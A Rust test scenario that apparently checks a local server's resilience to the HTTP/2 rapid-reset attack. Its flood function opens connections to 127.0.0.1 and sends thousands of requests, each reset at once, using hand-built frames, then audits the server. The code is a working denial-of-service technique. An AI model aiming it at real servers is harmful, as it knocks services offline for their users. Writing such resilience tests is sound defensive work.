use std::io;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::timeout;

use super::rig::Rig;
use crate::outcome::Outcome;
use crate::plan::Plan;

/// Requests that one connection begins before it looks whether the server has ended it.
const BURST: u32 = 500;

pub async fn run(plan: Plan) -> Outcome {
    let resets = plan.of(5_000, 50_000);
    let rig = Rig::new(&plan).await;
    rig.fleet.must_not_fail();
    let (mut sent, mut connections) = (0, 0);
    while sent < resets {
        connections += 1;
        sent += flood(rig.service.port, resets - sent)
            .await
            .unwrap_or(BURST);
    }
    rig.work().await;
    let done = format!(
        "{sent} requests over HTTP/2, each begun and reset at once, of which the server let {connections} connections begin"
    );
    rig.audit().await.into_outcome(&done)
}

/// Begins and resets requests on one connection until the server ends it. Returns how many.
async fn flood(port: u16, most: u32) -> io::Result<u32> {
    let mut stream = TcpStream::connect(("127.0.0.1", port)).await?;
    stream
        .write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
        .await?;
    stream.write_all(&frame(4, 0, 0, &[])).await?; // SETTINGS
    let (mut sent, mut answer) = (0, vec![0; 65_536]);
    while sent < most {
        let mut burst = Vec::new();
        for _ in 0..BURST {
            let id = 2 * sent + 1;
            // GET / over http, from the static table (RFC 7541, appendix A), with the end of stream and of headers
            burst.extend(frame(1, 0x5, id, &[0x82, 0x84, 0x86]));
            burst.extend(frame(3, 0, id, &8_u32.to_be_bytes())); // RST_STREAM, CANCEL
            sent += 1;
        }
        stream.write_all(&burst).await?;
        // what it says, or the end
        while let Ok(read) = timeout(Duration::from_millis(5), stream.read(&mut answer)).await {
            if read? == 0 {
                return Ok(sent);
            }
        }
    }
    Ok(sent)
}

/// A frame of HTTP/2 (RFC 9113, section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("short").to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}
